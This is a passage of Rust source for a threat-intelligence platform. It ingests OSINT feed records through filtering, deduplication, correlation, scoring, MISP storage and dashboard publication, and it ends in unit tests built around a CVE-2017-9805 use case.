    /// [`StageMetrics`] into per-stage counters and histograms. Share
    /// the registry with a
    /// [`TelemetryServer`](cais_telemetry::TelemetryServer) to make the
    /// platform scrapeable.
    pub fn with_telemetry(
        config: PlatformConfig,
        ctx: EvaluationContext,
        telemetry: Registry,
    ) -> Self {
        let broker = Broker::new();
        broker.instrument(&telemetry);
        let misp = MispApi::new(config.org.clone()).with_broker(broker.clone());
        misp.instrument(&telemetry);
        let instruments = PipelineInstruments::new(&telemetry);
        let tracer = Tracer::new();
        // One tracer spans the whole platform: the broker stamps bus
        // envelopes with it and the MISP store/share layers chain their
        // mutation spans onto the ingestion round that caused them.
        broker.set_tracer(&tracer);
        misp.set_tracer(&tracer);
        let enricher = Enricher::new(ctx.clone());
        let reducer = Reducer::new(Arc::clone(&ctx.inventory));
        let infra =
            InfrastructureCollector::new(Arc::clone(&ctx.inventory), Arc::clone(&ctx.sightings));
        Platform {
            config,
            broker,
            misp,
            ctx,
            enricher,
            reducer,
            osint: OsintCollector::new(),
            classifier: cais_nlp::ThreatClassifier::new(),
            quality: cais_feeds::QualityTracker::new(),
            infra,
            alarms_forwarded: 0,
            detection: crate::detection::DetectionEngine::new(4_096),
            detections: Vec::new(),
            riocs: Vec::new(),
            eiocs: Vec::new(),
            telemetry,
            tracer,
            flight: None,
            instruments,
        }
    }

    /// A platform over the paper's Table III context.
    pub fn paper_use_case() -> Self {
        Platform::new(
            PlatformConfig::default(),
            EvaluationContext::paper_use_case(),
        )
    }

    /// The message bus (subscribe to [`topics::RIOC_PUBLISHED`] for the
    /// dashboard feed).
    pub fn broker(&self) -> &Broker {
        &self.broker
    }

    /// The MISP instance.
    pub fn misp(&self) -> &MispApi {
        &self.misp
    }

    /// The evaluation context.
    pub fn context(&self) -> &EvaluationContext {
        &self.ctx
    }

    /// The telemetry registry every component records into.
    pub fn telemetry(&self) -> &Registry {
        &self.telemetry
    }

    /// The causal span tracer shared by every component: feed polls
    /// root `ingress` spans, ingestion rounds record `pipeline` spans
    /// beneath them, and the MISP store, share cache and bus chain
    /// their own spans onto the same traces.
    pub fn tracer(&self) -> &Tracer {
        &self.tracer
    }

    /// Arms the flight recorder: when a source's circuit breaker trips
    /// during [`Platform::ingest_from_sources`], the recorder snapshots
    /// the tail of every subsystem's span ring to disk (reason
    /// `breaker_trip`, detail = the feed's name).
    pub fn set_flight_recorder(&mut self, recorder: &FlightRecorder) {
        self.flight = Some(recorder.clone());
    }

    /// Every rIoC produced so far.
    pub fn riocs(&self) -> &[ReducedIoc] {
        &self.riocs
    }

    /// Every eIoC produced so far.
    pub fn eiocs(&self) -> &[EnrichedIoc] {
        &self.eiocs
    }

    /// The reducer's cache-effectiveness snapshot (also published as
    /// `reduce_*` gauges after every ingest round).
    pub fn reduce_cache_stats(&self) -> crate::reduce::ReduceCacheStats {
        self.reducer.stats()
    }

    /// Applies decayed scores (from a `cais-decay` rescore pass) to the
    /// reduced IoCs already on the dashboard: each rIoC whose MISP
    /// event appears in `scores` takes the decayed value as its threat
    /// score. The reducer's memos are invalidated so nothing assembled
    /// before the rescore is served afterwards. Returns how many rIoCs
    /// changed.
    pub fn apply_rescored(&mut self, scores: &HashMap<u64, f64>) -> usize {
        let mut updated = 0;
        for rioc in &mut self.riocs {
            let Some(event_id) = rioc.misp_event_id else {
                continue;
            };
            if let Some(&score) = scores.get(&event_id) {
                if (rioc.threat_score - score).abs() > f64::EPSILON {
                    rioc.threat_score = score;
                    updated += 1;
                }
            }
        }
        if updated > 0 {
            self.reducer.invalidate_memos();
        }
        updated
    }

    /// Runs one OSINT ingestion round: dedup → aggregate/correlate →
    /// store in MISP → heuristic analysis → eIoC write-back →
    /// reduction → dashboard publication.
    ///
    /// # Errors
    ///
    /// Returns MISP persistence errors; scoring itself cannot fail.
    pub fn ingest_feed_records(
        &mut self,
        records: Vec<FeedRecord>,
    ) -> Result<PlatformReport, CoreError> {
        self.ingest_feed_records_traced(records, None)
    }

    /// [`Platform::ingest_feed_records`] continuing the caller's trace:
    /// the round's `ingest_round` span becomes a child of `parent`
    /// (typically an `ingress`/`feed_poll` span) instead of rooting a
    /// fresh trace, and every store insert and bus publish of the round
    /// chains beneath it.
    ///
    /// # Errors
    ///
    /// Returns MISP persistence errors; scoring itself cannot fail.
    pub fn ingest_feed_records_traced(
        &mut self,
        records: Vec<FeedRecord>,
        parent: Option<TraceContext>,
    ) -> Result<PlatformReport, CoreError> {
        let mut span = self.tracer.child_of(parent, "pipeline", "ingest_round");
        span.field("path", "serial");
        span.field("records_in", records.len());
        let round = span.sampled().then(|| span.context());
        let mut report = PlatformReport {
            records_in: records.len(),
            ..PlatformReport::default()
        };
        let mut stages = StageMetrics::default();

        // Filter stage: NLP relevance, then warninglists.
        let started = Instant::now();
        let before = records.len();
        let mut records = records;
        records.retain(|record| match self.filter_verdict(record) {
            None => true,
            Some(FilterDrop::Irrelevant) => {
                report.nlp_filtered += 1;
                false
            }
            Some(FilterDrop::Benign) => {
                report.benign_filtered += 1;
                false
            }
        });
        stages.filter = StageRecord::timed(before, records.len(), nanos_since(started));

        self.quality.record_batch(&records, self.ctx.now);

        // Dedup stage.
        let started = Instant::now();
        let before = records.len();
        let dropped_before = self.osint.dedup_stats().dropped;
        let fresh = self.osint.dedup_batch(records);
        report.duplicates_dropped = self.osint.dedup_stats().dropped - dropped_before;
        stages.dedup = StageRecord::timed(before, fresh.len(), nanos_since(started));

        // Compose stage: aggregation + correlation into cIoCs.
        let started = Instant::now();
        let before = fresh.len();
        let ciocs = if fresh.is_empty() {
            Vec::new()
        } else {
            aggregate_into_ciocs(fresh, self.ctx.now)
        };
        report.ciocs = ciocs.len();
        stages.compose = StageRecord::timed(before, ciocs.len(), nanos_since(started));

        for cioc in ciocs {
            let started = Instant::now();
            if let Ok(payload) = serde_json::to_value(&cioc) {
                let _ =
                    self.broker
                        .publish_traced(Topic::new(topics::CIOC_RECEIVED), payload, round);
            }
            stages.publish.records_in += 1;
            stages.publish.records_out += 1;
            stages.publish.wall_nanos += nanos_since(started);

            let started = Instant::now();
            let eioc = self.enricher.enrich(cioc);
            stages.enrich.records_in += 1;
            stages.enrich.records_out += 1;
            stages.enrich.wall_nanos += nanos_since(started);

            self.finalize_eioc(eioc, &mut report, &mut stages, round)?;
        }
        report.stages = stages;
        span.field("riocs", report.riocs);
        self.instruments.record_round(&report);
        self.instruments.record_reduce_caches(&self.reducer.stats());
        self.broker.sample_queue_depths();
        Ok(report)
    }

    /// The parallel ingestion path: the same stages, same outcome, but
    /// the per-record work fanned out over up to `workers` scoped
    /// threads.
    ///
    /// * **filter** — records split into contiguous chunks, each chunk
    ///   classified by one worker, results merged in chunk order;
    /// * **dedup** — records hash-partitioned on
    ///   [`FeedRecord::dedup_key`] across the collector's shards, one
    ///   worker per shard group (no cross-shard locking), kept records
    ///   merged back into input order;
    /// * **compose** — inherently global (correlation crosses records),
    ///   so it stays sequential;
    /// * **enrich + prepare** — cIoCs split into contiguous chunks;
    ///   each worker scores its chunk, builds the MISP event under an
    ///   id pre-assigned from the store's counter, reduces against the
    ///   inventory, and serializes every bus payload (all of this is
    ///   pure or read-only over shared context);
    /// * **persist + publish** — sequential: events are inserted in
    ///   composed order (so the store assigns exactly the pre-assigned
    ///   ids), then each topic's announcements flush as one
    ///   [`Broker::publish_batch`].
    ///
    /// Because every parallel stage merges deterministically (shard
    /// partitioning preserves first-occurrence semantics; chunked
    /// stages reassemble in input order), the produced eIoCs, rIoCs,
    /// MISP event ids/contents and [`PlatformReport`] counters are
    /// identical to [`Platform::ingest_feed_records`] over the same
    /// input and state. Bus traffic carries the same messages in the
    /// same per-topic order, but grouped by stage rather than
    /// interleaved per eIoC, and store-modification timestamps may
    /// differ by the batching delay.
    ///
    /// # Errors
    ///
    /// Returns MISP persistence errors. Unlike the serial path, the
    /// round's cIoC announcements precede all persistence, so on a
    /// mid-batch error more cIoC announcements may already be out.
    pub fn ingest_feed_records_parallel(
        &mut self,
        records: Vec<FeedRecord>,
        workers: usize,
    ) -> Result<PlatformReport, CoreError> {
        self.ingest_feed_records_parallel_traced(records, workers, None)
    }

    /// [`Platform::ingest_feed_records_parallel`] continuing the
    /// caller's trace — see [`Platform::ingest_feed_records_traced`].
    ///
    /// # Errors
    ///
    /// Returns MISP persistence errors.
    pub fn ingest_feed_records_parallel_traced(
        &mut self,
        records: Vec<FeedRecord>,
        workers: usize,
        parent: Option<TraceContext>,
    ) -> Result<PlatformReport, CoreError> {
        let workers = workers.max(1);
        if workers == 1 || records.len() < 2 {
            return self.ingest_feed_records_traced(records, parent);
        }
        let mut span = self.tracer.child_of(parent, "pipeline", "ingest_round");
        span.field("path", "parallel");
        span.field("workers", workers);
        span.field("records_in", records.len());
        let round = span.sampled().then(|| span.context());
        let mut report = PlatformReport {
            records_in: records.len(),
            ..PlatformReport::default()
        };
        let mut stages = StageMetrics::default();

        // Filter stage, chunked across workers.
        let started = Instant::now();
        let before = records.len();
        let (records, nlp_dropped, benign_dropped) = self.filter_records_parallel(records, workers);
        report.nlp_filtered = nlp_dropped;
        report.benign_filtered = benign_dropped;
        stages.filter = StageRecord::timed(before, records.len(), nanos_since(started));

        self.quality.record_batch(&records, self.ctx.now);

        // Dedup stage, one worker per shard group.
        let started = Instant::now();
        let before = records.len();
        let dropped_before = self.osint.dedup_stats().dropped;
        let fresh = self.osint.dedup_batch_parallel(records, workers);
        report.duplicates_dropped = self.osint.dedup_stats().dropped - dropped_before;
        stages.dedup = StageRecord::timed(before, fresh.len(), nanos_since(started));

        // Compose stage, sequential: correlation links arbitrary record
        // pairs, so it cannot be partitioned without changing clusters.
        let started = Instant::now();
        let before = fresh.len();
        let ciocs = if fresh.is_empty() {
            Vec::new()
        } else {
            aggregate_into_ciocs(fresh, self.ctx.now)
        };
        report.ciocs = ciocs.len();
        stages.compose = StageRecord::timed(before, ciocs.len(), nanos_since(started));

        // Enrich + prepare stage, chunked across workers, merged in
        // chunk order: each worker scores its cIoCs, builds the MISP
        // event under its pre-assigned id, reduces against the
        // inventory, and serializes every announcement payload — all
        // pure work lifted off the sequential tail.
        let started = Instant::now();
        let before = ciocs.len();
        let prepared = self.prepare_parallel(ciocs, workers);
        let eioc_count = prepared.len();
        stages.enrich = StageRecord::timed(before, eioc_count, nanos_since(started));

        let mut cioc_payloads = Vec::with_capacity(eioc_count);
        let mut created_payloads = Vec::with_capacity(eioc_count);
        let mut updated_payloads = Vec::with_capacity(eioc_count);
        let mut published_payloads = Vec::with_capacity(eioc_count);
        let mut eioc_payloads = Vec::with_capacity(eioc_count);
        let mut events = Vec::with_capacity(eioc_count);
        let mut outcomes = Vec::with_capacity(eioc_count);
        for p in prepared {
            cioc_payloads.extend(p.cioc_payload);
            created_payloads.extend(p.created_payload);
            updated_payloads.extend(p.updated_payload);
            published_payloads.extend(p.published_payload);
            eioc_payloads.extend(p.eioc_payload);
            events.push(p.event);
            outcomes.push((p.eioc, p.rioc, p.rioc_payload));
        }

        // One batched announcement of the round's cIoCs.
        let started = Instant::now();
        self.broker
            .publish_batch_traced(Topic::new(topics::CIOC_RECEIVED), cioc_payloads, round);
        stages.publish.records_in += eioc_count;
        stages.publish.records_out += eioc_count;
        stages.publish.wall_nanos += nanos_since(started);

        // Persist: inserts stay sequential so the store assigns exactly
        // the ids the workers serialized; the created/updated/published
        // announcements then flush as per-topic batches.
        let started = Instant::now();
        for event in events {
            let expected = event.id;
            let id = self.misp.store().insert_with_trace(event, round)?;
            debug_assert_eq!(id, expected, "pre-assigned event id diverged");
        }
        self.broker
            .publish_batch_traced(Topic::new(topics::MISP_EVENT), created_payloads, round);
        self.broker.publish_batch_traced(
            Topic::new(topics::MISP_EVENT_UPDATED),
            updated_payloads,
            round,
        );
        if self.config.publish_enriched {
            self.broker.publish_batch_traced(
                Topic::new(topics::MISP_EVENT_PUBLISHED),
                published_payloads,
                round,
            );
        }
        self.broker
            .publish_batch_traced(Topic::new(topics::EIOC_READY), eioc_payloads, round);
        stages.publish.records_in += eioc_count;
        stages.publish.records_out += eioc_count;
        stages.publish.wall_nanos += nanos_since(started);
        report.eiocs = eioc_count;

        // Reduce bookkeeping: the reductions themselves ran in the
        // workers; this just tallies them and keeps eIoC/rIoC order.
        let started = Instant::now();
        let mut rioc_payloads = Vec::new();
        for (eioc, rioc, rioc_payload) in outcomes {
            stages.reduce.records_in += 1;
            match rioc {
                Some(rioc) => {
                    stages.reduce.records_out += 1;
                    rioc_payloads.extend(rioc_payload);
                    self.riocs.push(rioc);
                    report.riocs += 1;
                }
                None => stages.reduce.dropped += 1,
            }
            self.eiocs.push(eioc);
        }
        stages.reduce.wall_nanos += nanos_since(started);

        let started = Instant::now();
        self.broker
            .publish_batch_traced(Topic::new(topics::RIOC_PUBLISHED), rioc_payloads, round);
        stages.publish.records_in += report.riocs;
        stages.publish.records_out += report.riocs;
        stages.publish.wall_nanos += nanos_since(started);

        report.stages = stages;
        span.field("riocs", report.riocs);
        self.instruments.record_round(&report);
        self.instruments.record_reduce_caches(&self.reducer.stats());
        self.broker.sample_queue_depths();
        Ok(report)
    }

    /// Per-record filter decision shared by the serial and parallel
    /// paths: NLP relevance first, warninglists second.
    fn filter_verdict(&self, record: &FeedRecord) -> Option<FilterDrop> {
        if self.config.nlp_relevance_filter {
            if let Some(description) = &record.description {
                if !self.classifier.classify(description).is_relevant() {
                    return Some(FilterDrop::Irrelevant);
                }
            }
        }
        if self.config.warninglist_filter
            && cais_misp::warninglist::check_observable(&record.observable).is_some()
        {
            return Some(FilterDrop::Benign);
        }
        None
    }

    /// Runs the filter stage over contiguous chunks with scoped
    /// threads, merging kept records in chunk order (= input order).
    fn filter_records_parallel(
        &self,
        records: Vec<FeedRecord>,
        workers: usize,
    ) -> (Vec<FeedRecord>, usize, usize) {
        if !self.config.nlp_relevance_filter && !self.config.warninglist_filter {
            return (records, 0, 0);
        }
        let chunk_size = records.len().div_ceil(workers).max(1);
        let mut chunks: Vec<Vec<FeedRecord>> = Vec::new();
        let mut records = records.into_iter();
        loop {
            let chunk: Vec<FeedRecord> = records.by_ref().take(chunk_size).collect();
            if chunk.is_empty() {
                break;
            }
            chunks.push(chunk);
        }
        let this = self;
        let results: Vec<(Vec<FeedRecord>, usize, usize)> = std::thread::scope(|scope| {
            let handles: Vec<_> = chunks
                .into_iter()
                .map(|mut chunk| {
                    scope.spawn(move || {
                        let mut nlp_dropped = 0;
                        let mut benign_dropped = 0;
                        chunk.retain(|record| match this.filter_verdict(record) {
                            None => true,
                            Some(FilterDrop::Irrelevant) => {
                                nlp_dropped += 1;
                                false
                            }
                            Some(FilterDrop::Benign) => {
                                benign_dropped += 1;
                                false
                            }
                        });
                        (chunk, nlp_dropped, benign_dropped)
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|handle| handle.join().expect("filter worker panicked"))
                .collect()
        });
        let mut kept = Vec::new();
        let mut nlp_dropped = 0;
        let mut benign_dropped = 0;
        for (chunk, nlp, benign) in results {
            kept.extend(chunk);
            nlp_dropped += nlp;
            benign_dropped += benign;
        }
        (kept, nlp_dropped, benign_dropped)
    }

    /// The per-cIoC work that needs no store access, fused so worker
    /// threads can run it end to end: enrich, build the MISP event
    /// under its pre-assigned id, reduce against the inventory, and
    /// serialize every bus payload the sequential tail will flush.
    fn prepare_one(&self, cioc: ComposedIoc, event_id: u64) -> PreparedIoc {
        let mut eioc = self.enricher.enrich(cioc);
        let cioc_payload = serde_json::to_value(&eioc.composed).ok();
        let mut event =
            cais_misp::import::event_from_records(eioc.composed.summary(), &eioc.composed.records);
        event.org = self.misp.org().to_owned();
        event.id = event_id;
        let created_payload = serde_json::to_value(&event).ok();
        event.add_attribute(crate::enrich::score_attribute(
            eioc.heuristic,
            &eioc.threat_score,
        ));
        for tag in crate::enrich::score_tags(eioc.heuristic, &eioc.threat_score) {
            event.add_tag(tag);
        }
        let updated_payload = serde_json::to_value(&event).ok();
        let published_payload = if self.config.publish_enriched {
            event.published = true;
            serde_json::to_value(&event).ok()
        } else {
            None
        };
        eioc.misp_event_id = Some(event_id);
        let eioc_payload = serde_json::to_value(&eioc).ok();
        let rioc = self.reducer.reduce(&eioc);
        let rioc_payload = rioc.as_ref().and_then(|r| serde_json::to_value(r).ok());
        PreparedIoc {
            eioc,
            event,
            cioc_payload,
            created_payload,
            updated_payload,
            published_payload,
            eioc_payload,
            rioc,
            rioc_payload,
        }
    }

    /// Runs [`Platform::prepare_one`] over cIoC chunks concurrently,
    /// merging results in chunk order (= composed order). Event ids are
    /// pre-assigned from [`cais_misp::MispStore::peek_next_id`], which
    /// is exact because this pipeline is the only inserter and performs
    /// the inserts sequentially afterwards.
    fn prepare_parallel(&self, ciocs: Vec<ComposedIoc>, workers: usize) -> Vec<PreparedIoc> {
        let base_id = self.misp.store().peek_next_id();
        if ciocs.len() < 2 {
            return ciocs
                .into_iter()
                .enumerate()
                .map(|(k, cioc)| self.prepare_one(cioc, base_id + k as u64))
                .collect();
        }
        let chunk_size = ciocs.len().div_ceil(workers).max(1);
        let mut chunks: Vec<(usize, Vec<ComposedIoc>)> = Vec::new();
        let mut offset = 0;
        let mut ciocs = ciocs.into_iter();
        loop {
            let chunk: Vec<ComposedIoc> = ciocs.by_ref().take(chunk_size).collect();
            if chunk.is_empty() {
                break;
            }
            let len = chunk.len();
            chunks.push((offset, chunk));
            offset += len;
        }
        let this = self;
        std::thread::scope(|scope| {
            let handles: Vec<_> = chunks
                .into_iter()
                .map(|(offset, chunk)| {
                    scope.spawn(move || {
                        chunk
                            .into_iter()
                            .enumerate()
                            .map(|(k, cioc)| this.prepare_one(cioc, base_id + (offset + k) as u64))
                            .collect::<Vec<PreparedIoc>>()
                    })
                })
                .collect();
            handles
                .into_iter()
                .flat_map(|handle| handle.join().expect("prepare worker panicked"))
                .collect()
        })
    }

    /// The sequential tail every eIoC goes through regardless of path:
    /// MISP persistence and publication, the EIOC_READY announcement,
    /// reduction, and the RIOC_PUBLISHED announcement on a match.
    fn finalize_eioc(
        &mut self,
        mut eioc: EnrichedIoc,
        report: &mut PlatformReport,
        stages: &mut StageMetrics,
        round: Option<TraceContext>,
    ) -> Result<(), CoreError> {
        let started = Instant::now();
        let event_id = persist_enriched_traced(&self.misp, &mut eioc, round)?;
        if self.config.publish_enriched {
            self.misp.publish_event(event_id)?;
        }
        if let Ok(payload) = serde_json::to_value(&eioc) {
            let _ = self
                .broker
                .publish_traced(Topic::new(topics::EIOC_READY), payload, round);
        }
        stages.publish.records_in += 1;
        stages.publish.records_out += 1;
        stages.publish.wall_nanos += nanos_since(started);
        report.eiocs += 1;

        let started = Instant::now();
        let rioc = self.reducer.reduce(&eioc);
        stages.reduce.records_in += 1;
        stages.reduce.wall_nanos += nanos_since(started);
        match rioc {
            Some(rioc) => {
                stages.reduce.records_out += 1;
                let started = Instant::now();
                if let Ok(payload) = serde_json::to_value(&rioc) {
                    let _ = self.broker.publish_traced(
                        Topic::new(topics::RIOC_PUBLISHED),
                        payload,
                        round,
                    );
                }
                stages.publish.records_in += 1;
                stages.publish.records_out += 1;
                stages.publish.wall_nanos += nanos_since(started);
                self.riocs.push(rioc);
                report.riocs += 1;
            }
            None => stages.reduce.dropped += 1,
        }
        self.eiocs.push(eioc);
        Ok(())
    }

    /// Ingests a STIX 2.0 bundle from a sharing partner: every object a
    /// heuristic supports is scored against the context, stored in MISP
    /// with its threat score, and published. Returns how many objects
    /// were scored.
    ///
    /// # Errors
    ///
    /// Returns MISP persistence errors.
    pub fn ingest_stix_bundle(&mut self, bundle: &cais_stix::Bundle) -> Result<usize, CoreError> {
        use crate::heuristics::generic;
        // Arm every carried indicator for live detection replay.
        self.detection.arm_bundle(bundle);
        let mut scored = 0;
        for object in bundle.objects() {
            let Some((heuristic, threat_score)) = generic::evaluate_object(object, &self.ctx)
            else {
                continue;
            };
            // Reuse the importer for the types it maps; build a minimal
            // event for the rest.
            let single = cais_stix::Bundle::new(vec![object.clone()]);
            let event = cais_misp::import::events_from_stix(&single)
                .into_iter()
                .next()
                .unwrap_or_else(|| {
                    let mut event = cais_misp::MispEvent::new(format!(
                        "STIX {}: {}",
                        object.object_type(),
                        object.name().unwrap_or("unnamed"),
                    ));
                    event.date = object.created();
                    event
                });
            let event_id = self.misp.add_event(event)?;
            crate::enrich::attach_score(&self.misp, event_id, heuristic, &threat_score)?;
            if self.config.publish_enriched {
                self.misp.publish_event(event_id)?;
            }
            scored += 1;
        }
        Ok(scored)
    }

    /// Feeds network packets through the infrastructure collector,
    /// forwarding fresh alarms to the context and the bus, and replays
    /// armed indicator patterns over the traffic.
    pub fn ingest_packets(&mut self, packets: &[nids::Packet]) {
        self.infra.ingest_packets(packets);
        self.forward_alarms();
        let observations: Vec<cais_stix::pattern::Observation> = packets
            .iter()
            .map(|p| {
                cais_stix::pattern::Observation::at(p.at)
                    .with_object(cais_stix::sdo::CyberObservable::new(
                        "ipv4-addr",
                        p.src_ip.clone(),
                    ))
                    .with_object(cais_stix::sdo::CyberObservable::new(
                        "ipv4-addr",
                        p.dst_ip.clone(),
                    ))
            })
            .collect();
        let detections = self
            .detection
            .ingest(observations, self.ctx.now, &self.ctx.sightings);
        for detection in detections {
            let _ = self
                .broker
                .publish_value(Topic::new(topics::DETECTION_FIRED), &detection);
            self.detections.push(detection);
        }
    }

    /// Feeds host logs through the infrastructure collector.
    pub fn ingest_logs(&mut self, logs: &[hids::LogLine]) {
        self.infra.ingest_logs(logs);
        self.forward_alarms();
    }

    /// Every indicator-pattern detection fired so far.
    pub fn detections(&self) -> &[crate::detection::Detection] {
        &self.detections
    }

    /// Per-feed quality grades (0–5), best feed first — volume-unique
    /// contribution, freshness and reliability combined.
    pub fn feed_scoreboard(&self) -> Vec<(String, f64)> {
        self.quality
            .scoreboard()
            .into_iter()
            .map(|(source, grade)| (source.to_owned(), grade))
            .collect()
    }

    /// Number of indicators armed for detection replay.
    pub fn armed_indicators(&self) -> usize {
        self.detection.armed()
    }

    fn forward_alarms(&mut self) {
        let alarms = self.infra.alarms();
        for alarm in &alarms[self.alarms_forwarded.min(alarms.len())..] {
            self.ctx.push_alarm(alarm.clone());
            let _ = self
                .broker
                .publish_value(Topic::new(topics::ALARM_RAISED), alarm);
        }
        self.alarms_forwarded = alarms.len();
    }

    /// Shares every published eIoC event to another MISP instance
    /// (trusted-organization sharing), returning how many transferred.
    pub fn share_with(&self, partner: &MispApi) -> usize {
        cais_misp::sync::push(&self.misp, partner).transferred
    }

    /// Polls every resilient source once (in slice order, retry backoff
    /// on virtual time) and ingests whatever the healthy subset
    /// delivered — the graceful-degradation entry point.
    ///
    /// Collection is strictly ordered and ingestion happens in a single
    /// round, so with the same sources in the same states the produced
    /// rIoCs are identical whether `workers` selects the serial or the
    /// parallel pipeline, and identical to a fault-free run of the
    /// surviving sources: a faulted source degrades the round's *inputs*
    /// (its batch is absent) but never the determinism of the outputs.
    ///
    /// # Errors
    ///
    /// Returns MISP persistence errors from the ingestion round; source
    /// failures are *not* errors — they are counted in the report and
    /// the round proceeds with the records that did arrive.
    pub fn ingest_from_sources(
        &mut self,
        sources: &mut [cais_feeds::ResilientSource],
        workers: usize,
    ) -> Result<SourceIngestReport, CoreError> {
        // Backoffs run on virtual time: determinism does not depend on
        // the wall clock and a faulted source cannot stall the round.
        let sleeper = cais_common::resilience::RecordingSleeper::default();
        // The poll is the trace ingress: everything the round does
        // downstream — pipeline stages, store inserts, bus publishes —
        // hangs off this root span (or is dropped with it when the
        // sampling decision says no).
        let mut span = self.tracer.root("ingress", "feed_poll");
        span.field("sources", sources.len());
        let ingress = span.sampled().then(|| span.context());
        let mut records = Vec::new();
        let mut outcome = SourceIngestReport {
            sources_polled: sources.len(),
            ..SourceIngestReport::default()
        };
        for source in sources.iter_mut() {
            let retries_before = source.total_retries();
            let opened_before = source.breaker_transitions().opened;
            match source.poll(&sleeper) {
                cais_feeds::RoundOutcome::Delivered(batch) => {
                    outcome.delivered += 1;
                    records.extend(batch);
                }
                cais_feeds::RoundOutcome::Quarantined => outcome.quarantined += 1,
                cais_feeds::RoundOutcome::Failed(_) | cais_feeds::RoundOutcome::Interrupted => {
                    outcome.failed += 1;
                }
            }
            outcome.retries += source.total_retries() - retries_before;
            if source.breaker_transitions().opened > opened_before {
                // A breaker trip is the anomaly the flight recorder
                // exists for: capture the span tails before they age
                // out of the rings.
                if let Some(flight) = &self.flight {
                    let _ = flight.trigger("breaker_trip", source.name());
                }
            }
        }
        span.field("delivered", outcome.delivered);
        span.field("failed", outcome.failed);
        span.field("quarantined", outcome.quarantined);
        outcome.report = if workers <= 1 {
            self.ingest_feed_records_traced(records, ingress)?
        } else {
            self.ingest_feed_records_parallel_traced(records, workers, ingress)?
        };
        Ok(outcome)
    }
}

/// The outcome of one [`Platform::ingest_from_sources`] round.
#[derive(Debug, Clone, Default)]
pub struct SourceIngestReport {
    /// The ingestion round over the delivered records.
    pub report: PlatformReport,
    /// Sources polled this round.
    pub sources_polled: usize,
    /// Sources that delivered a batch (possibly after retries).
    pub delivered: usize,
    /// Sources that exhausted their retry budget this round.
    pub failed: usize,
    /// Sources denied by an open circuit breaker.
    pub quarantined: usize,
    /// Retries spent across all sources this round.
    pub retries: u64,
}

impl std::fmt::Debug for Platform {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Platform")
            .field("org", &self.config.org)
            .field("eiocs", &self.eiocs.len())
            .field("riocs", &self.riocs.len())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::heuristics::vulnerability::paper_rce_ioc;
    use cais_common::{Observable, ObservableKind, Timestamp};
    use cais_feeds::ThreatCategory;

    fn struts_record(now: Timestamp) -> FeedRecord {
        FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            now.add_days(-100),
        )
        .with_cve("CVE-2017-9805")
        .with_description("remote code execution in apache struts")
    }

    #[test]
    fn end_to_end_use_case_flow() {
        let mut platform = Platform::paper_use_case();
        let rioc_feed = platform.broker().subscribe("cais.rioc.published");
        let now = platform.context().now;

        let report = platform
            .ingest_feed_records(vec![struts_record(now), struts_record(now)])
            .unwrap();
        assert_eq!(report.records_in, 2);
        assert_eq!(report.duplicates_dropped, 1);
        assert_eq!(report.ciocs, 1);
        assert_eq!(report.eiocs, 1);
        assert_eq!(report.riocs, 1);

        // The dashboard topic carried the rIoC.
        let messages = rioc_feed.drain();
        assert_eq!(messages.len(), 1);
        let rioc: ReducedIoc = messages[0].decode().unwrap();
        assert_eq!(rioc.cve.as_deref(), Some("CVE-2017-9805"));
        assert_eq!(rioc.nodes, vec![cais_infra::NodeId(4)]);

        // The eIoC landed in MISP with its score.
        let event = platform
            .misp()
            .get_event(rioc.misp_event_id.unwrap())
            .unwrap();
        assert!(event.published);
        assert!(event.threat_score().is_some());
    }

    #[test]
    fn rescored_events_update_dashboard_riocs_and_drop_memos() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        platform
            .ingest_feed_records(vec![struts_record(now)])
            .unwrap();
        let rioc = platform.riocs()[0].clone();
        let event_id = rioc.misp_event_id.unwrap();
        let evictions_before = platform.reduce_cache_stats().match_memo_evictions;

        // A decay rescore halved the event's score.
        let decayed = rioc.threat_score / 2.0;
        let scores: HashMap<u64, f64> = [(event_id, decayed)].into_iter().collect();
        assert_eq!(platform.apply_rescored(&scores), 1);
        assert_eq!(platform.riocs()[0].threat_score, decayed);
        assert!(
            platform.reduce_cache_stats().match_memo_evictions > evictions_before,
            "rescore must invalidate the reducer memos"
        );

        // Same scores again: nothing changes, memos stay warm.
        assert_eq!(platform.apply_rescored(&scores), 0);
    }

    #[test]
    fn irrelevant_iocs_do_not_reach_the_dashboard() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Domain, "unrelated.example"),
            ThreatCategory::MalwareDomain,
            "feed",
            now,
        );
        let report = platform.ingest_feed_records(vec![record]).unwrap();
        assert_eq!(report.eiocs, 1);
        assert_eq!(report.riocs, 0);
        assert!(platform.riocs().is_empty());
        // …but the eIoC is still stored for future correlation.
        assert_eq!(platform.misp().store().len(), 1);
    }

    #[test]
    fn alarms_feed_the_heuristics() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        // Struts exploitation traffic against node 4 raises an alarm
        // tagged apache-struts…
        let packet = nids::Packet {
            at: now,
            src_ip: "203.0.113.9".into(),
            dst_ip: "192.168.1.14".into(),
            dst_port: 8080,
            payload: "XStreamHandler xstream exploit".into(),
        };
        platform.ingest_packets(&[packet]);
        assert_eq!(platform.context().alarms.read().len(), 1);

        // …so the use-case IoC now scores above its alarm-free 2.7407.
        let score_with_alarm =
            crate::heuristics::vulnerability::evaluate(&paper_rce_ioc(), platform.context());
        assert!(score_with_alarm.total() > 2.7407);
    }

    #[test]
    fn sharing_transfers_published_events() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        platform
            .ingest_feed_records(vec![struts_record(now)])
            .unwrap();
        let partner = MispApi::new("partner-org");
        let transferred = platform.share_with(&partner);
        assert_eq!(transferred, 1);
        assert_eq!(partner.store().len(), 1);
    }

    #[test]
    fn report_counters_accumulate_per_round() {
        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        platform
            .ingest_feed_records(vec![struts_record(now)])
            .unwrap();
        // Second round: the same record is a pure duplicate.
        let report = platform
            .ingest_feed_records(vec![struts_record(now)])
            .unwrap();
        assert_eq!(report.duplicates_dropped, 1);
        assert_eq!(report.ciocs, 0);
        assert_eq!(platform.eiocs().len(), 1);
    }

    #[test]
    fn nlp_filter_drops_irrelevant_descriptions() {
